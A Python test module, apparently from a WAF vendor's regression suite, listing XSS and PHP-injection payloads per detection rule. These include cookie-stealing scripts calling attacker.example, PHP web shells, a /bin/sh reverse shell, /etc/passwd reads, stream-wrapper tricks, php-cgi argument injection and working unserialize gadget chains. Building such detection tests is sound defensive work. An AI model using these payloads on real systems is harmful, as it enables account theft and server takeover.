"""Blind set "hundredfortyeighth": a WAF vendor's own regression suite for the cross-site scripting and PHP
injection titles, written from the detection titles alone, with benign requests that carry the same words
innocently.

The angle: for each detection title (the CRS 3.3.4 titles at paranoia levels 1 and 2 as remembered, e.g. "XSS
Attack Detected via libinjection", "XSS Filter - Category 1: Script Tag Vector", "NoScript XSS InjectionChecker:
HTML Injection", "IE XSS Filters - Attack Detected", "AngularJS client side template injection detected", "PHP
Injection Attack: Opening/Closing Tag Found", "PHP Injection Attack: High-Risk PHP Function Call Found", "PHP
Injection Attack: I/O Stream Found", "PHP Injection Attack: Serialized Object Injection", "PHP Injection Attack:
Configuration Directive Found", "PHP Injection Attack: Variables Found", "PHP Injection Attack: PHP Script File
Upload Found", "PHP Injection Attack: Variable Function Call Found"), what a test author sends to prove the
title fires: the textbook payload, then an encoded or spaced variant, one for another placement, one for another
target (another tag, another handler, another wrapper, another gadget class), several per title as a regression
suite does. Each list names its real target in the comment above it (the browser's HTML parser, a JavaScript
sink, AngularJS or Vue, the PHP interpreter's eval/include/unserialize sink, php-cgi, the upload handler).

Families and sub-families (one per detection title or group of titles):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include, php-cgi -d), superglobals, php-file-upload (.php/.phtml/.phar names),
    php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field or an upload's filename, the URL path, or the raw query string for php-cgi argument
injection), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body that is
not key=value, or in User-Agent, Referer, a custom header, X-Filename or a cookie. Upload names go as multipart
filenames (the file's content is neutral, so the name is what is tested); php-cgi query strings go verbatim.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The serialized PHP objects and the base64/deflate blobs are built here (lengths computed, so each string
unserializes or decodes). Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredfortyeighth"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    """What gzinflate(base64_decode(...)) turns back into `text` (raw deflate, as PHP's gzdeflate)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


def _s(text: str) -> str:
    """A PHP serialized string (its length in bytes, as unserialize() checks it)."""
    return f's:{len(text.encode())}:"{text}";'


def _obj(cls: str, props: list[tuple[str, str]]) -> str:
    """A PHP serialized object: `props` are (property name, serialized value); private names carry their NULs."""
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{' + "".join(_s(k) + v for k, v in props) + "}"


def _arr(items: list[tuple[str, str]]) -> str:
    """A PHP serialized array: (serialized key, serialized value) pairs."""
    return f"a:{len(items)}:{{" + "".join(k + v for k, v in items) + "}"


def _prot(name: str) -> str:
    return "\x00*\x00" + name


def _priv(cls: str, name: str) -> str:
    return "\x00" + cls + "\x00" + name


# ----------------------------------------------------------------------------------------------------------------
# XSS
# Title: "XSS Attack Detected via libinjection". Target: the browser's HTML parser (reflected into a page body).
LIBINJECTION_XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(document.domain)</script>',
    "<img src=x onerror=alert(1)>",
    "'><img src=x onerror=prompt(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//attacker.example/x.js></script>",
    "<img src=x:x onerror=alert(1)//",
    "<input autofocus onfocus=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(document.cookie)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<style>@import'//attacker.example/x.css';</style>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

# Title: "XSS Filter - Category 1: Script Tag Vector". Target: the browser (script element injected into HTML).
SCRIPT_TAG = [
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script >alert(1)</script >",
    '<script type="text/javascript">alert(1)</script>',
    "<script>document.location='https://attacker.example/c?'+document.cookie</script>",
    "<script>fetch('//attacker.example/?c='+document.cookie)</script>",
    '<script>new Image().src="//attacker.example/l?"+document.cookie;</script>',
    "<script/src=data:,alert(1)></script>",
    "<SCRIPT SRC=https://attacker.example/xss.js></SCRIPT>",
    "<script>eval(atob('" + _b64("alert(1)") + "'))</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>alert`1`</script>",
    "<script\n>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>top[/al/.source+/ert/.source](1)</script>",
    "<script type=module>import('//attacker.example/m.js')</script>",
    "<script>self[atob('" + _b64("alert") + "')](1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script>setTimeout('alert(1)',0)</script>",
]

# Title: "XSS Filter - Category 2: Event Handler Vector". Target: the browser (on* attributes run script).
EVENT_HANDLER = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<div onmouseover="alert(1)">hover</div>',
    "<body onpageshow=alert(1)>",
    "<img src=1 onerror=\"fetch('//attacker.example/'+document.cookie)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<form><button onclick=alert(1)>go</button></form>",
    "<div draggable=true ondragstart=alert(1)>drag me</div>",
    "<body onresize=alert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<x onclick=alert(1)>click me",
    "<video autoplay onplay=alert(1)><source src=x.mp4></video>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<iframe onload=alert(document.domain)>",
    "<style onload=alert(1)></style>",
    "<img src=x onerror  =  alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<a onpointerenter=alert(1)>hover</a>",
]

# Title: "XSS Filter - Category 3: Attribute Vector". Target: the browser (src/href/style/formaction/background
# attributes that load or run script).
ATTRIBUTE_VECTOR = [
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    '<img src="javascript:alert(\'XSS\')">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<div style="background-image:url(javascript:alert(1))">',
    '<table background="javascript:alert(1)">',
    '<embed src="data:text/html;base64,' + _b64("<script>alert(1)</script>") + '">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<a href="data:text/html;base64,' + _b64("<script>alert(document.cookie)</script>") + '">x</a>',
    '<base href="javascript:alert(1)//">',
    "<isindex action=javascript:alert(1) type=submit value=click>",
    '<input type="submit" formaction="javascript:alert(document.cookie)">',
    '<bgsound src="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<video poster=javascript:alert(1)//></video>",
    '<body background="javascript:alert(1)">',
    '<input type="image" src="javascript:alert(1)">',
]

# Title: "XSS Filter - Category 4: Javascript URI Vector". Target: the browser (a link, redirect or location
# sink that takes a URL).
JAVASCRIPT_URI = [
    "javascript:alert(1)",
    "javascript:alert(document.cookie)//",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript://%0aalert(1)",
    "  javascript:alert(1)",
    "javascript:void(document.location='//attacker.example/?'+document.cookie)",
    'vbscript:msgbox("XSS")',
    "javascript:eval(atob('" + _b64("alert(document.domain)") + "'))",
    '<a href="javascript&colon;alert(1)">x</a>',
    "javascript:fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))",
    "javascript:alert%281%29",
    "jav&#x0A;ascript:alert(1)",
    "javascript:window.onerror=alert;throw 1",
    'javascript:"<img src=x onerror=alert(1)>"',
    "%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)",
    '<iframe src="jAvAsCrIpT:alert(1)">',
    "javascript:top['al\\x65rt'](1)",
]

# Title: "NoScript XSS InjectionChecker: HTML Injection". Target: the browser (markup that frames, embeds,
# redirects, restyles or re-targets the page without a script tag).
HTML_INJECTION = [
    "<iframe src=https://attacker.example/phish width=100% height=100%></iframe>",
    "<object data=//attacker.example/x.swf type=application/x-shockwave-flash></object>",
    "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
    "<base href=//attacker.example/>",
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    "<link rel=import href=//attacker.example/x.html>",
    "<form action=https://attacker.example/login method=post><input name=password type=password></form>",
    "<applet code=Exploit.class codebase=//attacker.example/></applet>",
    "<frameset><frame src=//attacker.example/></frameset>",
    "<style>body{display:none}</style><h1>Site moved</h1><a href=//attacker.example>log in</a>",
    '<meta http-equiv="Set-Cookie" content="session=fixed; path=/">',
    "<link rel=stylesheet href=//attacker.example/steal.css>",
    '<img src="//attacker.example/log?',
    "<iframe src=//attacker.example/ style=position:fixed;top:0;left:0;width:100%;height:100%;border:0>",
    "<form><input type=submit formaction=//attacker.example/ value=Continue></form>",
    "<object type=text/x-scriptlet data=//attacker.example/x.sct></object>",
    "<embed code=//attacker.example/x.swf>",
    "<portal src=//attacker.example/></portal>",
    '<meta name="referrer" content="unsafe-url"><img src=//attacker.example/r>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

SVG_USE_DOC = "<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>"

# Titles: the XSS filters for SVG and MathML namespaces (foreign content). Target: the browser (inline SVG/MathML
# and uploaded SVG documents).
SVG_MATHML = [
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>X</text></a></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + _b64(SVG_USE_DOC) + '#x"/></svg>',
    "<svg><image href=1 onerror=alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg onload=alert&#40;1&#41;>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><discard onbegin=alert(1)>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(\'//attacker.example/?\'+document.cookie)</script></svg>',
    '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    "<svg/onload=alert(1)//",
]

# Titles: "IE XSS Filters - Attack Detected" (style/expression branch) and CSS-borne vectors. Target: the browser's
# CSS engine (IE expression()/behavior, Firefox -moz-binding, url() loads, attribute-selector exfiltration).
CSS_EXPRESSION = [
    '<div style="width: expression(alert(1))">',
    '<p style="x:expression(alert(document.cookie))">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="behavior: url(//attacker.example/xss.htc)">',
    '<div style="-moz-binding:url(//attacker.example/xss.xml#xss)">',
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    '<img style="xss:expr/*XSS*/ession(alert(1))">',
    '<div style="width:exp\\ression(alert(1))">',
    '<div style="w:\\65 xpression(alert(1))">',
    "background-image: url(javascript:alert(1))",
    "color:red;width:expression(alert(1))",
    "</style><script>alert(1)</script>",
    "<style>*{x:expression(alert(1))}</style>",
    '<link rel=stylesheet href="data:text/css,body{background:url(javascript:alert(1))}">',
    "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/a)}</style>",
    '<div style="background:url(&#1;javascript:alert(1))">',
    '<xss style="behavior:url(#default#time2)" onbegin="alert(1)">',
    "}*{xss:expression(alert(1))}",
    "<style>@import url(//attacker.example/x.css);</style>",
]

# Titles: the JavaScript-context XSS filters (string/template-literal breakouts, DOM sinks, prototype-pollution
# gadgets). Target: the page's own JavaScript (inline script strings, innerHTML, eval, location sinks).
TEMPLATE_DOM_SINK = [
    "${alert(1)}",
    "`-alert(1)-`",
    "';alert(1)//",
    '"-alert(document.domain)-"',
    "\\';alert(1)//",
    "</script><img src=x onerror=alert(1)>",
    "#<img src=x onerror=alert(1)>",
    "document.write('<img src=x onerror=alert(1)>')",
    "eval(location.hash.slice(1))",
    "${self['ale'+'rt'](1)}",
    "${fetch(`//attacker.example/${document.cookie}`)}",
    "'+alert(1)+'",
    "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
    "__proto__[srcdoc][]=<script>alert(1)</script>",
    "');alert(1);//",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    '"}</script><script>alert(1)</script>',
    "Function('ale'+'rt(1)')()",
    "[].constructor.constructor('alert(1)')()",
    "import('data:text/javascript,alert(1)')",
    "<img src=x onerror=eval(name)>",
]

# Titles: "IE XSS Filters - Attack Detected" and "UTF-7 Encoding IE XSS". Target: Internet Explorer and legacy
# Trident/EdgeHTML engines (XML data islands, HTC behaviors, conditional comments, VBScript, UTF-7).
IE_FILTER_STYLE = [
    '<img src="jav&#x09;ascript:alert(1)">',
    "<xml id=x><x><c><![CDATA[<img src=javas]]><![CDATA[cript:alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    '<?import namespace="t" implementation="#default#time2">'
    '<t:set attributeName="innerHTML" to="XSS<script defer>alert(1)</script>">',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<script for=window event=onload>alert(1)</script>",
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<html xmlns:xss><?import namespace=xss implementation=//attacker.example/x.htc><xss:xss>x</xss:xss></html>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<img src=`javascript:alert(1)`>",
    '<a href="vbscript:MsgBox(1)">x</a>',
    '<meta http-equiv="Link" content="<//attacker.example/x.css>; rel=stylesheet">',
    "<scr%00ipt>alert(1)</scr%00ipt>",
    "<iframe src=vbscript:msgbox(document.cookie)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<div style="background:url(vbscript:msgbox(1))">',
    "<![CDATA[<script>alert(1)</script>]]>",
]

# Titles: "US-ASCII Malformed Encoding XSS Filter", the entity/escape-decoding XSS filters. Target: the browser
# after the application (or a proxy) decodes one more layer: HTML entities, percent, %u, overlong UTF-8,
# full-width forms, JavaScript escapes.
ENCODED_ENTITY = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<svg onload=\\u0061lert(1)>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    '<iframe src="data:text/html;base64,' + _b64("<script>alert(document.domain)</script>") + '">',
    '<a href="javascript&#58;alert(1)">x</a>',
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074(1)>",
]

# Title: "AngularJS client side template injection detected" (and the Vue equivalents). Target: AngularJS 1.x
# and Vue 2/3 compiling user text as a template in the browser.
ANGULAR_VUE = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "<div ng-app>{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}</div>",
    "[[constructor.constructor('alert(1)')()]]",
    "{{$eval.constructor('alert(1)')()}}",
    "<input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>",
    "{{'a'.constructor.fromCharCode=[].join;'a'.constructor[0]='\\u003ciframe onload=alert(1)\\u003e';}}",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    '{{ constructor.constructor("alert`1`")() }}',
    "\" ng-init=\"constructor.constructor('alert(1)')()",
    "{{$new.constructor('alert(document.domain)')()}}",
    "<div ng-app ng-include=\"'//attacker.example/x.html'\"></div>",
]

# ----------------------------------------------------------------------------------------------------------------
# PHP
# Title: "PHP Injection Attack: Opening/Closing Tag Found". Target: the PHP interpreter (text written to a .php
# file, a log or session file later included, or an eval'd template).
PHP_OPEN_TAG = [
    "<?php phpinfo(); ?>",
    "<?php system($_GET['cmd']); ?>",
    "<?=system('id')?>",
    "<? echo shell_exec($_GET['c']); ?>",
    "<?PHP echo file_get_contents('/etc/passwd'); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php passthru('uname -a');",
    '<script language="php">system(\'id\');</script>',
    "<% system('id'); %>",
    "<?php\nsystem('whoami');\n?>",
    "?><?php echo md5('regression'); ?>",
    "<?php include($_GET['f']); ?>",
    "GIF89a<?php system($_REQUEST['x']); ?>",
    "<?php file_put_contents('s.php','<?php eval($_POST[1]);'); ?>",
    "<?= `$_GET[0]` ?>",
    "<?php\tphpinfo();",
    "<?php /* */ readfile('/etc/passwd'); ?>",
    "%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
    '<?php $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
    "<?php echo ini_get('disable_functions'); ?>",
    "<?php die(`id`); ?>",
    "<?php copy('http://attacker.example/s.txt','s.php'); ?>",
    "<?php print_r(scandir('/var/www')); ?>",
    "<?php var_dump(get_defined_vars()); ?>",
    "<?php header('Location: https://attacker.example/'); ?>",
]

# Title: "PHP Injection Attack: High-Risk PHP Function Call Found". Target: the PHP interpreter behind an eval()/
# assert()/create_function() sink or a string interpolated into PHP code.
PHP_FUNCTION_CALL = [
    "system('id');",
    'system("cat /etc/passwd");',
    "exec('id', $o); print_r($o);",
    "passthru('ls -la /');",
    "shell_exec('whoami')",
    "popen('id', 'r');",
    "fread(popen('/bin/ls', 'r'), 4096);",
    "proc_open('id', [1 => ['pipe', 'w']], $p);",
    "assert('system(\"id\")');",
    "eval('phpinfo();');",
    "eval(base64_decode('" + _b64('system("id");') + "'));",
    "create_function('', 'system(\"id\");')",
    "preg_replace('/.*/e', 'system(\"id\")', 'x');",
    'preg_replace("/a/e","phpinfo()","a")',
    "1;system('id');",
    "';system('id');//",
    "\".system('id').\"",
    "${system('id')}",
    "{${passthru('id')}}",
    "pcntl_exec('/bin/sh', ['-c', 'id']);",
    "system ( 'id' ) ;",
    "SYSTEM('id');",
    "system/**/('id');",
    "array_map('system', ['id']);",
    "call_user_func('shell_exec', 'id')",
    "register_shutdown_function('system', 'id');",
    "assert(phpinfo());",
    "eval(gzinflate(base64_decode('" + _deflate_b64("system('id');") + "')));",
    "mail('a@attacker.example','s','b','','-X/var/www/html/s.php');",
]

# Title: "PHP Injection Attack: Variable Function Call Found". Target: the PHP interpreter (a function called
# through a variable, an expression or a string built at run time).
PHP_VARIABLE_FUNCTIONS = [
    "$f='system';$f('id');",
    "$_GET['a']($_GET['b']);",
    '$a="sys"."tem";$a("id");',
    '("sys"."tem")("id");',
    "('system')('id');",
    "${'_GET'}[0](${'_GET'}[1]);",
    "$x=strrev('metsys');$x('id');",
    "$c=base64_decode('" + _b64("system") + "');$c('id');",
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$a=array('sys','tem');$b=implode($a);$b('id');",
    "$GLOBALS['f']='passthru';$GLOBALS['f']('id');",
    "$f = $_POST['fn']; $f($_POST['arg']);",
    "$v='f';$f='system';$$v('id');",
    "@$_REQUEST['x']($_REQUEST['y']);",
    "('str_rot13')('flfgrz')('id');",
    "$o=new ReflectionFunction('system');$o->invoke('id');",
    '$f="\\x73\\x79\\x73\\x74\\x65\\x6d";$f("id");',
    "$_COOKIE['f']($_COOKIE['a']);",
    "$h=hex2bin('73797374656d');$h('id');",
    "$f=str_replace('x','','sxysxtxem');$f('id');",
    "$k='as'.'sert';$k($_POST['z']);",
    "array_filter(['id'],$_GET['f']);",
    "$f='pass'.'thru'; $f ( 'id' );",
    '${"_POST"}["a"](${"_POST"}["b"]);',
]

# Title: "PHP Injection Attack: I/O Stream Found" (and the PHP data scheme). Target: PHP's include/require/
# file_get_contents/fopen sinks taking a user-supplied path.
PHP_WRAPPERS = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://input",
    "php://filter/resource=/etc/passwd",
    "PHP://filter/convert.base64-encode/resource=../wp-config.php",
    "php://fd/3",
    "php://stdin",
    "data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "phar://uploads/avatar.jpg/shell",
    "phar:///var/www/uploads/x.gif/test.txt",
    "expect://id",
    "expect://ls%20-la",
    "zip://uploads/a.zip#shell.php",
    "zip:///tmp/upload.zip%23x.php",
    "glob:///var/www/html/*.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://uploads/x.bz2",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "file:///etc/passwd",
    "ssh2.exec://user:pass@127.0.0.1:22/id",
    "rar://uploads/x.rar#s.php",
    "php://filter/string.toupper|string.rot13/resource=index.php",
]

# Title: "PHP Injection Attack: Serialized Object Injection". Target: PHP's unserialize() on a cookie, a hidden
# field or a JSON value (gadget chains from Laravel, Monolog, Guzzle; magic methods of the application's
# own classes).
MONOLOG_BUFFER = _obj("Monolog\\Handler\\BufferHandler", [
    (_prot("handler"), "N;"), (_prot("bufferSize"), "i:-1;"),
    (_prot("buffer"), _arr([("i:0;", _arr([("i:0;", _s("id")), (_s("level"), "N;")]))])),
    (_prot("level"), "N;"), (_prot("initialized"), "b:1;"), (_prot("bufferLimit"), "i:-1;"),
    (_prot("processors"), _arr([("i:0;", _s("current")), ("i:1;", _s("system"))])),
])
LARAVEL_PENDING = _obj("Illuminate\\Broadcasting\\PendingBroadcast", [
    (_prot("events"), _obj("Faker\\Generator", [(_prot("formatters"), _arr([(_s("dispatch"), _s("system"))]))])),
    (_prot("event"), _s("id")),
])
GUZZLE_JAR = "GuzzleHttp\\Cookie\\FileCookieJar"
GUZZLE_COOKIE = _obj("GuzzleHttp\\Cookie\\SetCookie", [(_priv("GuzzleHttp\\Cookie\\SetCookie", "data"), _arr([
    (_s("Expires"), "i:1;"), (_s("Discard"), "b:0;"), (_s("Value"), _s("<?php system($_GET['c']); ?>"))]))])
GUZZLE_FILE_JAR = _obj(GUZZLE_JAR, [
    (_priv("GuzzleHttp\\Cookie\\CookieJar", "cookies"), _arr([("i:0;", GUZZLE_COOKIE)])),
    (_priv("GuzzleHttp\\Cookie\\CookieJar", "strictMode"), "N;"),
    (_priv(GUZZLE_JAR, "filename"), _s("/var/www/html/shell.php")),
    (_priv(GUZZLE_JAR, "storeSessionCookies"), "b:1;"),
])
SPL_STORAGE_BODY = "x:i:0;m:a:0:{}"

PHP_OBJECT_INJECTION = [
    'O:8:"stdClass":0:{}',
    _obj("Example1", [("cache_file", _s("../../index.php"))]),
    'a:2:{i:0;s:4:"test";i:1;O:8:"stdClass":0:{}}',
    'O:+8:"stdClass":0:{}',
    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
    LARAVEL_PENDING,
    _obj("Monolog\\Handler\\SyslogUdpHandler", [(_prot("socket"), MONOLOG_BUFFER)]),
    _arr([(_s("user"), _obj("User", [("isAdmin", "b:1;")]))]),
    GUZZLE_FILE_JAR,
    _b64('O:8:"stdClass":0:{}'),
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    'O:8:"stdClass":1:{s:4:"self";R:1;}',
    _obj("Test", [("file", _s("/etc/passwd"))]),
    _obj("Logfile", [("filename", _s("shell.php")), ("content", _s("<?php system($_GET[0]); ?>"))]),
    'O:8:"stdClass":1:{S:4:"\\74\\65\\73\\74";i:1;}',
    'O:4:"Test":1:{s:1:"a";E:7:"Foo:Bar";}',
    f'a:1:{{i:0;C:16:"SplObjectStorage":{len(SPL_STORAGE_BODY)}:{{{SPL_STORAGE_BODY}}}}}',
    _b64(LARAVEL_PENDING),
    'O:9:"Exception":1:{s:10:"\x00*\x00message";s:5:"pwned";}',
    _obj("Session", [("data", _s("a:1:{s:5:\"admin\";b:1;}")), ("save_path", _s("/var/www/html/"))]),
    _arr([("i:0;", _obj("DirectoryIterator", [])), ("i:1;", _obj("TemplateCache", [("path", _s("/tmp/x.php"))]))]),
    'O:14:"PDOStatement":0:{}',
    _obj("WP_Theme", [("headers", _arr([(_s("Name"), _s("x"))])), ("stylesheet", _s("../../wp-config"))]),
]

# Title: "PHP Injection Attack: Configuration Directive Found". Target: php-cgi argument injection (the query
# string as -d switches), .user.ini/.htaccess uploads and ini_set() reaching an eval sink.
PHP_CONFIG_DIRECTIVES: list[str | tuple[str, str, str]] = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "raw-query", "rs-raw-query"),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "raw-query", "rs-raw-query"),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-s", "raw-query", "rs-raw-query"),
    ("-s", "raw-query", "rs-raw-query"),
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "register_globals=On",
    "ini_set('allow_url_include', '1');",
    'ini_set("open_basedir", "/");',
    'php_value auto_prepend_file "/tmp/sess_abc"',
    "php_flag engine on",
    "auto_append_file=/var/log/nginx/access.log",
    "AddType application/x-httpd-php .jpg",
    "allow_url_fopen = On",
    "upload_tmp_dir=/var/www/html",
    "session.save_path=/var/www/html",
    "error_log=/var/www/html/shell.php",
    "extension=/tmp/evil.so",
    "zend_extension=/var/www/uploads/x.so",
    'auto_prepend_file="data://text/plain;base64,' + _b64("<?php phpinfo();") + '"',
    "PHP_VALUE\nauto_prepend_file=php://input",
    ("allow_url_include=1&auto_prepend_file=php://input", "param-name", "rs-param-name"),
]

